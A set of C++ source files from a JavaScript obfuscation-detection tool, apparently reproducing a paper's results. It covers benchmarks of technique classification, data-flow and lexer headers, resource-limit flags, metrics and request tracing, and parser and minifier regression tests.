      4.5,    // identifier obfuscation
      1.5,    // string obfuscation
      0.8,    // global array
      0.2,    // no alphanumeric
      0.8,    // dead code injection
      0.4,    // control-flow flattening
      0.2,    // self-defending
      0.4,    // debug protection
      58.34,  // minification simple
      36.57,  // minification advanced
  };
  std::printf("%-28s %10s %10s\n", "technique", "paper", "measured");
  for (transform::Technique technique : transform::all_techniques()) {
    const auto index = static_cast<std::size_t>(technique);
    std::printf("%-28s %9.2f%% %9.2f%%\n",
                std::string(transform::technique_name(technique)).c_str(),
                paper_values[index],
                100.0 * measurement.technique_confidence[index]);
  }
  print_note("npm scripts are fully transformed when transformed at all "
             "(no regular-head/minified-tail mixtures, unlike Alexa)");
  print_footer();
  return 0;
}
