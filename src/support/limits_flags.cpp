#include "support/limits_flags.h"

#include <cerrno>
#include <cstdlib>
#include <cstring>

namespace jst::support {
namespace {

// Parses the value argument following flag argv[i]; advances i on success.
bool next_value(int argc, char** argv, int& i, const char** out,
                std::string& error) {
  if (i + 1 >= argc) {
    error = std::string(argv[i]) + ": missing value";
    return false;
  }
  *out = argv[++i];
  return true;
}

bool parse_size(const char* flag, const char* text, std::size_t& field,
                std::string& error) {
  errno = 0;
  char* end = nullptr;
  const unsigned long long value = std::strtoull(text, &end, 10);
  if (errno != 0 || end == text || *end != '\0') {
    error = std::string(flag) + ": invalid count '" + text + "'";
    return false;
  }
  field = static_cast<std::size_t>(value);
  return true;
}

bool parse_ms(const char* flag, const char* text, double& field,
              std::string& error) {
  errno = 0;
  char* end = nullptr;
  const double value = std::strtod(text, &end);
  if (errno != 0 || end == text || *end != '\0' || value < 0.0) {
    error = std::string(flag) + ": invalid milliseconds '" + text + "'";
    return false;
  }
  field = value;
  return true;
}

}  // namespace

bool consume_limits_flag(int argc, char** argv, int& i, ResourceLimits& limits,
                         std::string& error) {
  const char* flag = argv[i];
  if (std::strcmp(flag, "--production-limits") == 0) {
    limits = ResourceLimits::production();
    return true;
  }

  struct SizeFlag {
    const char* name;
    std::size_t ResourceLimits::* field;
  };
  static constexpr SizeFlag kSizeFlags[] = {
      {"--max-source-bytes", &ResourceLimits::max_source_bytes},
      {"--max-tokens", &ResourceLimits::max_tokens},
      {"--max-ast-nodes", &ResourceLimits::max_ast_nodes},
      {"--max-depth", &ResourceLimits::max_ast_depth},
      {"--max-dataflow-edges", &ResourceLimits::max_dataflow_edges},
  };
  for (const SizeFlag& size_flag : kSizeFlags) {
    if (std::strcmp(flag, size_flag.name) != 0) continue;
    const char* value = nullptr;
    if (next_value(argc, argv, i, &value, error)) {
      parse_size(flag, value, limits.*(size_flag.field), error);
    }
    return true;
  }

  if (std::strcmp(flag, "--deadline-ms") == 0) {
    const char* value = nullptr;
    if (next_value(argc, argv, i, &value, error)) {
      parse_ms(flag, value, limits.deadline_ms, error);
    }
    return true;
  }
  return false;
}

const char* limits_flags_usage() {
  return "[--production-limits] [--deadline-ms N] [--max-source-bytes N] "
         "[--max-tokens N] [--max-ast-nodes N] [--max-depth N] "
         "[--max-dataflow-edges N]";
}

}  // namespace jst::support
