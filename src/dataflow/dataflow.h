// Data-flow augmentation of the AST.
//
// Per the paper (§III-A): "we only consider data flows on Identifier
// nodes, i.e., there is a data flow between two Identifier nodes if and
// only if a variable is defined at the source node and used at the
// destination node. We also improve the way to handle objects and
// scoping."
//
// We build a lexical scope tree (function scopes with var hoisting, block
// scopes for let/const, catch-parameter scopes), resolve every identifier
// reference to its binding, and emit def -> use edges. Assignments count
// as additional definition sites. The paper's 2-minute wall-clock timeout
// is modeled as a node budget: oversized inputs yield `completed = false`
// and no data-flow edges (the AST stays control-flow-only).
//
// The builder is flat (DESIGN.md §17): scopes are records in a scratch
// array (no per-scope heap node), resolution is a per-atom binding stack
// indexed by the parse-time atom id (no string hashing), and use/
// assignment sites are chained through a pooled link array and packed
// into contiguous spans when the traversal finishes. Steady-state (with a
// DataFlowScratch) the pass allocates only the returned vectors below.
#pragma once

#include <cstdint>
#include <optional>
#include <span>
#include <string_view>
#include <vector>

#include "ast/ast.h"
#include "support/budget.h"

namespace jst {

// One variable binding and everything resolved to it. `name` views the
// AST arena; `assignments`/`uses` view the site pool (owned by the
// DataFlow when built without a scratch, aliased from the scratch
// otherwise) — both share the owning analysis' lifetime, see DataFlow.
struct Binding {
  const Node* declaration = nullptr;  // the defining Identifier node
  std::string_view name;
  // The initializing expression node (if any): lets features ask "was
  // this variable initialized from an array/object literal?".
  const Node* init = nullptr;
  std::span<const Node* const> assignments;  // write sites (Identifier nodes)
  std::span<const Node* const> uses;         // read sites (Identifier nodes)
  bool is_parameter = false;
  bool is_function_name = false;
};

struct DataFlow {
  DataFlow() = default;
  // Move-only: `bindings` spans alias `site_pool` (or a scratch), so an
  // implicit copy would silently share (or dangle) site storage.
  DataFlow(DataFlow&&) noexcept = default;
  DataFlow& operator=(DataFlow&&) noexcept = default;
  DataFlow(const DataFlow&) = delete;
  DataFlow& operator=(const DataFlow&) = delete;

  // def -> use edges between Identifier node ids.
  std::vector<std::pair<std::uint32_t, std::uint32_t>> edges;
  std::vector<Binding> bindings;
  // Backing storage for the bindings' site spans when the pass ran
  // without a scratch. With a scratch the spans alias its pool instead
  // and stay valid until the scratch's next build (the per-script pooling
  // contract, same as the pooled front-end arena).
  std::vector<const Node*> site_pool;
  // Identifier reads that resolved to no binding (globals/undeclared).
  std::size_t unresolved_uses = 0;
  std::size_t scope_count = 0;
  // False when the node budget was exceeded and edges were not generated,
  // or when a resource budget stopped edge generation early (see `tripped`).
  bool completed = true;
  // Populated when the attached Budget's data-flow edge ceiling or
  // deadline stopped the pass; edges are truncated at the trip point. The
  // data-flow stage is soft: the pass records the trip and returns instead
  // of throwing, so the pipeline can degrade around it (DESIGN.md §10).
  std::optional<BudgetTrip> tripped;

  std::size_t edge_count() const { return edges.size(); }
};

// Reusable builder workspace: every flat table the pass traverses with —
// scope records, the per-atom binding stacks and their unwind log, the
// chained site links and the packed span storage, and the iterative
// walker stacks. Capacity survives across scripts (features/scratch.h),
// making steady-state builds allocation-free up to the returned DataFlow.
struct DataFlowScratch {
  // One lexical scope: parent index and the unwind mark into `bind_log`
  // (bindings pushed since the scope opened; popped on close).
  struct ScopeRec {
    std::uint32_t parent = 0;
    std::uint32_t log_mark = 0;
  };
  // Builder-side per-binding record, index-parallel with the public
  // bindings vector: the owning scope, the shadowed stack entry, and the
  // chained use/assignment site lists.
  struct BindingAux {
    std::uint32_t scope = 0;
    std::uint32_t prev_top = 0;
    std::uint32_t use_head = 0, use_tail = 0;
    std::uint32_t asg_head = 0, asg_tail = 0;
    std::uint32_t use_count = 0, asg_count = 0;
  };
  // One recorded site in a binding's chained list.
  struct SiteLink {
    const Node* site = nullptr;
    std::uint32_t next = 0;
  };

  std::vector<ScopeRec> scopes;
  std::vector<BindingAux> aux;
  // atom id -> innermost live binding index (the symbol table).
  std::vector<std::uint32_t> atom_tops;
  // Atoms bound since the run started; ScopeRec::log_mark segments it.
  std::vector<std::uint32_t> bind_log;
  std::vector<SiteLink> site_links;
  // Packed span storage the returned bindings point into (scratch runs).
  std::vector<const Node*> sites;
  // Iterative walker stacks (same-scope spine, hoisting DFS).
  std::vector<const Node*> spine;
  std::vector<const Node*> hoist_stack;

  std::size_t capacity_bytes() const {
    return scopes.capacity() * sizeof(ScopeRec) +
           aux.capacity() * sizeof(BindingAux) +
           atom_tops.capacity() * sizeof(std::uint32_t) +
           bind_log.capacity() * sizeof(std::uint32_t) +
           site_links.capacity() * sizeof(SiteLink) +
           sites.capacity() * sizeof(const Node*) +
           spine.capacity() * sizeof(const Node*) +
           hoist_stack.capacity() * sizeof(const Node*);
  }
};

struct DataFlowOptions {
  // Analysis is skipped (completed=false) above this many AST nodes.
  // Stands in for the paper's two-minute timeout.
  std::size_t node_budget = 2'000'000;
  // Non-owning per-script budget: charged one unit per def->use edge and
  // polled for the deadline during reference resolution. nullptr governs
  // nothing.
  Budget* budget = nullptr;
  // Non-owning reusable workspace; nullptr allocates per call (and the
  // returned DataFlow owns its site storage).
  DataFlowScratch* scratch = nullptr;
};

// Requires a finalized AST.
DataFlow build_data_flow(const Ast& ast, const DataFlowOptions& options = {});

}  // namespace jst
