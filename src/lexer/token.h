// Lexical tokens for the JavaScript tokenizer.
//
// Mirrors Esprima's token taxonomy so that downstream token-level features
// match the paper's abstraction (§III-A: "we also leverage Esprima to
// collect lexical units (i.e., tokens)").
//
// Token payloads are zero-copy views (DESIGN.md §12): they point into the
// arena-stable copy of the source when the cooked value equals the raw
// slice (the overwhelmingly common case), and into arena-copied cooked
// storage only when unescaping changed the text. Either way the bytes
// live exactly as long as the Arena epoch the token was lexed under, so a
// Token is trivially copyable and never owns heap memory.
#pragma once

#include <cstddef>
#include <span>
#include <string_view>

namespace jst {

enum class TokenType {
  kIdentifier,      // foo, let (contextual keywords stay identifiers)
  kKeyword,         // if, function, var, ...
  kBooleanLiteral,  // true / false
  kNullLiteral,     // null
  kNumericLiteral,  // 42, 0x2a, 3.14e-2, 0b101, 0o17
  kStringLiteral,   // 'a', "b"
  kTemplate,        // `text ${expr} text` (whole literal, one token)
  kRegularExpression,
  kPunctuator,      // { } ( ) + === => ...
  kEndOfFile,
};

std::string_view token_type_name(TokenType type);

struct Token {
  TokenType type = TokenType::kEndOfFile;
  // Cooked value: identifier name, keyword text, decoded string value,
  // punctuator text, regex pattern (without flags), raw template text.
  std::string_view value;
  // Exact source slice.
  std::string_view raw;
  // For numeric literals.
  double number = 0.0;
  // For regular expressions.
  std::string_view regex_flags;
  // For templates: source slices of each ${...} substitution expression.
  std::span<const std::string_view> template_expressions;
  // Cooked text chunks between substitutions (size = substitutions + 1).
  std::span<const std::string_view> template_quasis;

  std::size_t offset = 0;  // byte offset of the first character
  std::size_t line = 1;    // 1-based
  std::size_t column = 0;  // 0-based
  // True when a line terminator appears between the previous token and this
  // one (needed for automatic semicolon insertion).
  bool newline_before = false;
};

}  // namespace jst
