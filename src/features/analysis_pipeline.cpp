#include "features/analysis_pipeline.h"

#include "ast/walk.h"
#include "obs/trace.h"

namespace jst {

ScriptAnalysis analyze_script(std::string_view source,
                              const AnalysisOptions& options) {
  ScriptAnalysis analysis;
  analysis.parse = parse_program(source, options.budget, options.arena);
  if (options.build_cfg) {
    JST_SPAN("cfg");
    if (options.budget != nullptr) options.budget->set_stage("cfg");
    analysis.control_flow = build_control_flow(analysis.parse.ast,
                                               options.budget);
  }
  if (options.build_dataflow) {
    JST_SPAN("dataflow");
    if (options.budget != nullptr) options.budget->set_stage("dataflow");
    DataFlowOptions dataflow_options;
    dataflow_options.node_budget = options.dataflow_node_budget;
    dataflow_options.budget = options.budget;
    dataflow_options.scratch = options.dataflow_scratch;
    analysis.data_flow = build_data_flow(analysis.parse.ast, dataflow_options);
  }
  return analysis;
}

bool size_eligible(std::string_view source) {
  return source.size() >= 512 && source.size() <= 2 * 1024 * 1024;
}

bool script_eligible(const ScriptAnalysis& analysis) {
  if (analysis.parse.source_bytes < 512 ||
      analysis.parse.source_bytes > 2 * 1024 * 1024) {
    return false;
  }
  return ast_eligible(analysis);
}

bool ast_eligible(const ScriptAnalysis& analysis) {
  bool eligible = false;
  walk_preorder(static_cast<const Node*>(analysis.parse.ast.root()),
                [&eligible](const Node& node) {
                  switch (node.kind) {
                    // Conditional control-flow nodes (paper footnote 2).
                    case NodeKind::kDoWhileStatement:
                    case NodeKind::kWhileStatement:
                    case NodeKind::kForStatement:
                    case NodeKind::kForOfStatement:
                    case NodeKind::kForInStatement:
                    case NodeKind::kIfStatement:
                    case NodeKind::kConditionalExpression:
                    case NodeKind::kTryStatement:
                    case NodeKind::kSwitchStatement:
                    // Function nodes (paper footnote 3).
                    case NodeKind::kArrowFunctionExpression:
                    case NodeKind::kFunctionExpression:
                    case NodeKind::kFunctionDeclaration:
                    // CallExpression (incl. tagged templates, footnote 4).
                    case NodeKind::kCallExpression:
                    case NodeKind::kTaggedTemplateExpression:
                      eligible = true;
                      break;
                    default:
                      break;
                  }
                });
  return eligible;
}

}  // namespace jst
