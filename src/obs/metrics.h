// Dependency-free observability: a process-wide metrics registry.
//
// Three instrument kinds, each safe for concurrent recording from any
// number of threads:
//  - Counter: monotonic 64-bit total (relaxed atomic add);
//  - Gauge: a settable level with add/sub, for queue depths and widths;
//  - Histogram: fixed log-spaced buckets (milliseconds by convention)
//    with atomic per-bucket counts; p50/p95/p99 are extracted by linear
//    interpolation inside the owning bucket, clamped to the observed max.
//
// Telemetry is observational only: recording never takes a lock, never
// allocates after the instrument exists, and never feeds back into
// analysis outcomes — batch results stay bit-identical whether or not
// anything reads the registry. This module sits *below* jst_support
// (the thread pool reports into it), so it depends on nothing but the
// standard library.
//
// Naming scheme (see DESIGN.md §9): `jst_<area>_<quantity>[_<unit>]`,
// with `_total` for counters and `_ms` for millisecond histograms, e.g.
// `jst_batch_scripts_total`, `jst_pool_queue_depth`, `jst_script_total_ms`.
#pragma once

#include <array>
#include <atomic>
#include <cstddef>
#include <cstdint>
#include <map>
#include <memory>
#include <mutex>
#include <string>
#include <string_view>

namespace jst::obs {

class Counter {
 public:
  void add(std::uint64_t delta = 1) {
    value_.fetch_add(delta, std::memory_order_relaxed);
  }
  std::uint64_t value() const { return value_.load(std::memory_order_relaxed); }
  void reset() { value_.store(0, std::memory_order_relaxed); }

 private:
  std::atomic<std::uint64_t> value_{0};
};

class Gauge {
 public:
  void set(double value) { value_.store(value, std::memory_order_relaxed); }
  void add(double delta) { value_.fetch_add(delta, std::memory_order_relaxed); }
  void sub(double delta) { value_.fetch_sub(delta, std::memory_order_relaxed); }
  double value() const { return value_.load(std::memory_order_relaxed); }
  void reset() { value_.store(0.0, std::memory_order_relaxed); }

 private:
  std::atomic<double> value_{0.0};
};

// Bucket layouts for histograms. kLatencyMs is the default: log-spaced
// from 10 µs to 10 s (in ms), covering everything from a single lexer
// pass to a full forest training run. kUnit is linear over [0, 1] for
// classifier confidence scores, where log-ms bounds would dump every
// observation into two buckets.
enum class HistogramLayout { kLatencyMs, kUnit };

// Fixed-bucket histogram (bounds chosen by layout, +Inf overflow last).
class Histogram {
 public:
  static constexpr std::size_t kBucketCount = 20;
  // Upper bound (inclusive) of each bucket; the last is +Inf.
  static const std::array<double, kBucketCount>& layout_bounds(
      HistogramLayout layout);
  // Legacy alias for the latency layout's bounds.
  static const std::array<double, kBucketCount>& bucket_bounds() {
    return layout_bounds(HistogramLayout::kLatencyMs);
  }

  explicit Histogram(HistogramLayout layout = HistogramLayout::kLatencyMs)
      : layout_(layout) {}

  HistogramLayout layout() const { return layout_; }
  const std::array<double, kBucketCount>& bounds() const {
    return layout_bounds(layout_);
  }

  void record(double value);

  std::uint64_t count() const { return count_.load(std::memory_order_relaxed); }
  double sum() const { return sum_.load(std::memory_order_relaxed); }
  double max() const { return max_.load(std::memory_order_relaxed); }
  std::uint64_t bucket_count(std::size_t i) const {
    return buckets_[i].load(std::memory_order_relaxed);
  }

  // Percentile estimate (p in [0, 100]) from the bucket counts: linear
  // interpolation within the bucket holding the target rank, clamped to
  // the observed max. Monotone in p by construction (p50 ≤ p95 ≤ p99).
  double percentile(double p) const;
  double p50() const { return percentile(50.0); }
  double p95() const { return percentile(95.0); }
  double p99() const { return percentile(99.0); }

  void reset();

 private:
  HistogramLayout layout_;
  std::array<std::atomic<std::uint64_t>, kBucketCount> buckets_{};
  std::atomic<std::uint64_t> count_{0};
  std::atomic<double> sum_{0.0};
  std::atomic<double> max_{0.0};
};

// Shared percentile rule (p in [0, 100]): linear interpolation within the
// bucket holding the target rank, clamped to `observed_max`. Used by the
// cumulative Histogram above and by the sliding-window snapshots in
// window.h, so windowed and since-boot percentiles are always comparable.
double percentile_from_buckets(
    const std::array<double, Histogram::kBucketCount>& bounds,
    const std::array<std::uint64_t, Histogram::kBucketCount>& buckets,
    std::uint64_t total, double observed_max, double p);

// Thread-safe name → instrument registry. Registration takes a mutex once
// per instrument; recording through the returned reference is lock-free.
// References stay valid for the registry's lifetime (instruments are
// never removed; reset() zeroes them in place).
class MetricsRegistry {
 public:
  Counter& counter(std::string_view name);
  Gauge& gauge(std::string_view name);
  // `layout` is honored on first registration; later lookups of the same
  // name return the existing instrument regardless of the layout asked.
  Histogram& histogram(std::string_view name,
                       HistogramLayout layout = HistogramLayout::kLatencyMs);

  // Attaches a `# HELP` line to a metric for the Prometheus exposition.
  // Metrics without explicit help get a generated placeholder, so every
  // exported family is HELP+TYPE conformant either way.
  void set_help(std::string_view name, std::string_view help);

  // {"counters":{...},"gauges":{...},"histograms":{name:{count,sum,max,
  // p50,p95,p99,buckets:[[le,count],...]}}} — one self-contained document.
  std::string to_json() const;
  // Prometheus text exposition format: `# HELP` + `# TYPE` per family
  // (counter / gauge / histogram), histograms as cumulative
  // `_bucket{le="..."}` series plus `_sum` / `_count`.
  std::string to_prometheus() const;

  // Zeroes every registered instrument (references stay valid). Used by
  // tests and by batch drivers that want per-run snapshots.
  void reset();

  // Process-wide registry. Intentionally leaked so instruments outlive
  // static-destruction-time work (e.g. the global thread pool draining).
  static MetricsRegistry& global();

 private:
  mutable std::mutex mutex_;
  std::map<std::string, std::unique_ptr<Counter>, std::less<>> counters_;
  std::map<std::string, std::unique_ptr<Gauge>, std::less<>> gauges_;
  std::map<std::string, std::unique_ptr<Histogram>, std::less<>> histograms_;
  std::map<std::string, std::string, std::less<>> help_;
};

}  // namespace jst::obs
