# Empty compiler generated dependencies file for bench_unmonitored.
# This may be replaced when dependencies are built.
