// Request-scoped context propagation for the serving path.
//
// A request id is a 16-char lowercase-hex token minted at the daemon
// boundary (or carried in on the wire, v2+). It rides a thread-local slot
// so every JST_SPAN opened while a request is being served — lex, parse,
// features, inference, pool.task — can stamp the id into its trace event,
// letting one request's journey (queue → admission → pipeline → respond)
// be reconstructed from the trace JSONL by joining on `rid`.
//
// Propagation is explicit and RAII-scoped:
//
//   obs::RequestScope scope(request_id);   // installs on this thread
//   ... analysis runs; spans pick the id up ...
//                                          // previous id restored
//
// ThreadPool::submit captures the submitting thread's current id and
// re-installs it inside the worker, so the context survives the hop from
// the connection reader into the pool lane. parallel_for intentionally
// does NOT propagate: batch shards are not request-scoped work.
//
// The slot is a fixed char buffer (no allocation, no destruction-order
// hazards); ids longer than 16 chars are truncated. Empty id == "no
// request in scope" — spans then emit exactly the pre-PR-7 event shape,
// keeping single-process batch traces byte-stable.
#pragma once

#include <cstddef>
#include <string>
#include <string_view>

namespace jst::obs {

// Fixed capacity of a request id (16 hex chars; FNV/splitmix-width).
inline constexpr std::size_t kRequestIdLength = 16;

// The request id installed on the calling thread, or "" when none is in
// scope. The view points at thread-local storage: valid until the scope
// that installed it closes or the thread installs another id.
std::string_view current_request_id();

// Mints a fresh 16-hex id: splitmix64 over (process-random seed + atomic
// counter), so ids are unique within a process and collide across
// processes with ~2^-64 probability per pair.
std::string generate_request_id();

// True iff `id` is exactly 16 lowercase-hex chars (the only shape the
// wire layer accepts and the only shape worth propagating).
bool is_valid_request_id(std::string_view id);

// RAII installer: saves the thread's current id, installs `id` (truncated
// to 16 chars), restores the previous id on destruction. Safe to nest.
class RequestScope {
 public:
  explicit RequestScope(std::string_view id);
  ~RequestScope();

  RequestScope(const RequestScope&) = delete;
  RequestScope& operator=(const RequestScope&) = delete;

 private:
  char saved_[kRequestIdLength + 1];
};

}  // namespace jst::obs
