// §III-E2 / Figure 1 — mixed-technique samples (1-7 ground-truth labels):
//  (a) Top-k accuracy and average wrong/missing labels as k grows,
//  (b) the same with the 10% confidence threshold (paper: < 0.32 wrong
//      labels on average, accuracy > 89% up to 7 techniques, > 99.84% for
//      1-2 techniques),
//  (c) the 50% threshold for comparison (recognizes only 3-4 techniques).
#include <algorithm>
#include <cstdio>

#include "analysis/dataset.h"
#include "bench_common.h"
#include "ml/metrics.h"

int main() {
  using namespace jst;
  using namespace jst::bench;

  const auto& model = analyzer();
  const std::size_t sample_count = scaled(140);
  const auto bases = held_out_regular(scaled(48), 0xf19);
  Rng rng(0xf19c0de);

  struct Case {
    std::vector<float> row;
    std::vector<std::size_t> truth;
  };
  std::vector<Case> cases;
  cases.reserve(sample_count);
  // Level-1 check along the way (paper: 99.99% of mixed files transformed).
  std::size_t level1_transformed = 0;
  for (std::size_t i = 0; i < sample_count; ++i) {
    const std::string& base = bases[rng.index(bases.size())];
    const std::size_t technique_count = 1 + rng.index(5);
    const auto sample = analysis::make_mixed_sample(base, technique_count, rng);
    Case c;
    c.row = features::extract_from_source(sample.source,
                                          model.options().detector.features);
    c.truth = analysis::indices_from_techniques(sample.techniques);
    if (model.level1().predict(c.row).transformed()) ++level1_transformed;
    cases.push_back(std::move(c));
  }

  print_header("Mixed-technique detection (test set 2)",
               "section III-E2, Figure 1");
  print_row("level-1: mixed files flagged transformed", 99.99,
            100.0 * static_cast<double>(level1_transformed) /
                static_cast<double>(cases.size()));

  std::printf("\nFigure 1a: plain Top-k (no threshold)\n");
  std::printf("%4s %10s %12s %14s\n", "k", "accuracy", "avg wrong",
              "avg missing");
  for (std::size_t k = 1; k <= 8; ++k) {
    std::size_t hits = 0;
    double wrong = 0.0;
    double missing = 0.0;
    for (const Case& c : cases) {
      const auto topk =
          analysis::indices_from_techniques(model.level2().predict_topk(c.row, k));
      if (ml::topk_correct(topk, c.truth)) ++hits;
      wrong += static_cast<double>(ml::wrong_labels(topk, c.truth));
      missing += static_cast<double>(ml::missing_labels(topk, c.truth));
    }
    const double n = static_cast<double>(cases.size());
    std::printf("%4zu %9.2f%% %12.3f %14.3f\n", k,
                100.0 * static_cast<double>(hits) / n, wrong / n, missing / n);
  }

  for (const double threshold : {0.10, 0.50}) {
    std::printf("\nFigure 1%s: Top-k with %.0f%% confidence threshold\n",
                threshold < 0.3 ? "b" : "c", threshold * 100);
    std::printf("%4s %10s %12s %14s %12s\n", "k", "accuracy", "avg wrong",
                "avg missing", "avg kept");
    for (std::size_t k = 1; k <= 8; ++k) {
      std::size_t hits = 0;
      double wrong = 0.0;
      double missing = 0.0;
      double kept = 0.0;
      for (const Case& c : cases) {
        auto probabilities = model.level2().predict_proba(c.row);
        std::vector<std::size_t> order(probabilities.size());
        for (std::size_t j = 0; j < order.size(); ++j) order[j] = j;
        std::stable_sort(order.begin(), order.end(),
                         [&](std::size_t a, std::size_t b) {
                           return probabilities[a] > probabilities[b];
                         });
        std::vector<std::size_t> picked;
        for (std::size_t j = 0; j < order.size() && picked.size() < k; ++j) {
          if (probabilities[order[j]] >= threshold) picked.push_back(order[j]);
        }
        if (!picked.empty() && ml::topk_correct(picked, c.truth)) ++hits;
        wrong += static_cast<double>(ml::wrong_labels(picked, c.truth));
        missing += static_cast<double>(ml::missing_labels(picked, c.truth));
        kept += static_cast<double>(picked.size());
      }
      const double n = static_cast<double>(cases.size());
      std::printf("%4zu %9.2f%% %12.3f %14.3f %12.2f\n", k,
                  100.0 * static_cast<double>(hits) / n, wrong / n,
                  missing / n, kept / n);
    }
  }
  print_note("paper: threshold 10% keeps avg wrong labels < 0.32 while "
             "detecting up to 7 techniques; 50% recognizes only 3-4");
  print_footer();
  return 0;
}
