// Data-flow augmentation of the AST.
//
// Per the paper (§III-A): "we only consider data flows on Identifier
// nodes, i.e., there is a data flow between two Identifier nodes if and
// only if a variable is defined at the source node and used at the
// destination node. We also improve the way to handle objects and
// scoping."
//
// We build a lexical scope tree (function scopes with var hoisting, block
// scopes for let/const, catch-parameter scopes), resolve every identifier
// reference to its binding, and emit def -> use edges. Assignments count
// as additional definition sites. The paper's 2-minute wall-clock timeout
// is modeled as a node budget: oversized inputs yield `completed = false`
// and no data-flow edges (the AST stays control-flow-only).
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <unordered_map>
#include <vector>

#include "ast/ast.h"
#include "support/budget.h"

namespace jst {

// One variable binding and everything resolved to it.
struct Binding {
  const Node* declaration = nullptr;  // the defining Identifier node
  std::string name;
  // Kind of the initializing expression (if any): lets features ask "was
  // this variable initialized from an array/object literal?".
  const Node* init = nullptr;
  std::vector<const Node*> assignments;  // write sites (Identifier nodes)
  std::vector<const Node*> uses;         // read sites (Identifier nodes)
  bool is_parameter = false;
  bool is_function_name = false;
};

struct DataFlow {
  // def -> use edges between Identifier node ids.
  std::vector<std::pair<std::uint32_t, std::uint32_t>> edges;
  std::vector<Binding> bindings;
  // Identifier reads that resolved to no binding (globals/undeclared).
  std::size_t unresolved_uses = 0;
  std::size_t scope_count = 0;
  // False when the node budget was exceeded and edges were not generated,
  // or when a resource budget stopped edge generation early (see `tripped`).
  bool completed = true;
  // Populated when the attached Budget's data-flow edge ceiling or
  // deadline stopped the pass; edges are truncated at the trip point. The
  // data-flow stage is soft: the pass records the trip and returns instead
  // of throwing, so the pipeline can degrade around it (DESIGN.md §10).
  std::optional<BudgetTrip> tripped;

  std::size_t edge_count() const { return edges.size(); }
};

// Reusable builder workspace: the per-binding definition-site list used
// while emitting def -> use edges. Hoisted out of the builder so batch
// callers can reuse its capacity across scripts (features/scratch.h).
struct DataFlowScratch {
  std::vector<const Node*> defs;

  std::size_t capacity_bytes() const {
    return defs.capacity() * sizeof(const Node*);
  }
};

struct DataFlowOptions {
  // Analysis is skipped (completed=false) above this many AST nodes.
  // Stands in for the paper's two-minute timeout.
  std::size_t node_budget = 2'000'000;
  // Non-owning per-script budget: charged one unit per def->use edge and
  // polled for the deadline during reference resolution. nullptr governs
  // nothing.
  Budget* budget = nullptr;
  // Non-owning reusable workspace; nullptr allocates per call.
  DataFlowScratch* scratch = nullptr;
};

// Requires a finalized AST.
DataFlow build_data_flow(const Ast& ast, const DataFlowOptions& options = {});

}  // namespace jst
