// Regression suite: syntax hazards and tricky interactions between the
// parser, the printer, the minifier, and the interpreter. Each case either
// pins a behaviour that once broke or guards a known ASI/precedence trap.
#include <gtest/gtest.h>

#include "ast/walk.h"
#include "codegen/codegen.h"
#include "interp/interpreter.h"
#include "cfg/cfg.h"
#include "dataflow/dataflow.h"
#include "parser/parser.h"
#include "transform/transform.h"

namespace jst {
namespace {

std::vector<NodeKind> kinds(std::string_view source) {
  const ParseResult result = parse_program(source);
  return preorder_kinds(result.ast.root());
}

void expect_stable(std::string_view source) {
  const ParseResult first = parse_program(source);
  const std::string pretty = to_source(first.ast.root());
  const std::string compact = to_minified_source(first.ast.root());
  EXPECT_EQ(kinds(source), kinds(pretty)) << pretty;
  EXPECT_EQ(kinds(source), kinds(compact)) << compact;
}

std::string interp_one(std::string_view source) {
  const auto result = interp::run_program_source(source);
  EXPECT_TRUE(result.ok) << result.error;
  return result.log.empty() ? std::string() : result.log.back();
}

// --- ASI hazards ----------------------------------------------------------

TEST(Regression, AsiDoesNotSplitCallAcrossLines) {
  // `a\n(b)` is one call expression, not two statements.
  const auto sequence = kinds("use\n(42);");
  std::size_t calls = 0;
  for (NodeKind kind : sequence) {
    if (kind == NodeKind::kCallExpression) ++calls;
  }
  EXPECT_EQ(calls, 1u);
}

TEST(Regression, AsiAfterReturnOnNewline) {
  const ParseResult result =
      parse_program("function f() { return\n{ a: 1 }; }");
  const Node* ret = collect_kind(
      static_cast<const Node*>(result.ast.root()), NodeKind::kReturnStatement)[0];
  EXPECT_EQ(ret->kid(0), nullptr);
}

TEST(Regression, PostfixUpdateNotAppliedAcrossNewline) {
  // `a\n++b` is two statements per ASI (++ cannot attach to `a`).
  const ParseResult result = parse_program("a\n++b;");
  const auto updates = collect_kind(
      static_cast<const Node*>(result.ast.root()), NodeKind::kUpdateExpression);
  ASSERT_EQ(updates.size(), 1u);
  EXPECT_TRUE(updates[0]->flag_a);  // prefix on b
}

// --- printer hazards --------------------------------------------------------

TEST(Regression, NegativeLiteralMemberAccess) {
  expect_stable("x = (1).toString();");
  expect_stable("x = (1.5).toFixed(1);");
}

TEST(Regression, NestedUnaryMinusNeverFuses) {
  const std::string out = to_minified_source(
      parse_program("x = -(-(-y));").ast.root());
  EXPECT_EQ(out.find("--"), std::string::npos) << out;
}

TEST(Regression, InOperatorInsideForInit) {
  // `in` must not leak ASI-style into for-in detection when parenthesized.
  expect_stable("for (var found = ('k' in map); found; found = false) { f(); }");
}

TEST(Regression, ArrowReturningObjectLiteral) {
  expect_stable("var f = () => ({ a: 1 });");
  EXPECT_EQ(interp_one("var f = () => ({ a: 1 }); console.log(f().a);"), "1");
}

TEST(Regression, SequenceInsideConditional) {
  expect_stable("x = a ? (b, c) : d;");
}

TEST(Regression, NewPrecedence) {
  expect_stable("x = new Foo().bar;");
  expect_stable("x = new ns.Klass(1).method(2);");
}

TEST(Regression, KeywordsAsPropertyNames) {
  expect_stable("o.return = 1; o.typeof = 2; x = o.in;");
  expect_stable("var o = { new: 1, delete: 2, default: 3 };");
}

TEST(Regression, StringWithBothQuoteKinds) {
  expect_stable(R"(var s = "it's \"quoted\"";)");
  EXPECT_EQ(interp_one(R"(console.log("it's ok");)"), "it's ok");
}

TEST(Regression, TemplateWithBackslashes) {
  expect_stable(R"(var s = `a\n${x}\t`; )");
}

TEST(Regression, RegexThenDivision) {
  expect_stable("var r = /ab/g; var q = a / b / c;");
}

TEST(Regression, ElseIfChainsStayFlat) {
  const std::string source =
      "if (a) f(); else if (b) g(); else if (c) h(); else k();";
  expect_stable(source);
  // Pretty printing must not deepen nesting into blocks each round.
  const std::string once = to_source(parse_program(source).ast.root());
  const std::string twice = to_source(parse_program(once).ast.root());
  EXPECT_EQ(once, twice);
}

// --- minifier semantics -------------------------------------------------------

TEST(Regression, MinifyPreservesIifeThis) {
  const char* source = R"JS(
    var counter = { n: 41, bump: function () { this.n += 1; return this.n; } };
    console.log(counter.bump());
  )JS";
  const std::string before = interp_one(source);
  transform::MinifyOptions options;
  options.advanced = true;
  EXPECT_EQ(before, interp_one(transform::minify(source, options)));
}

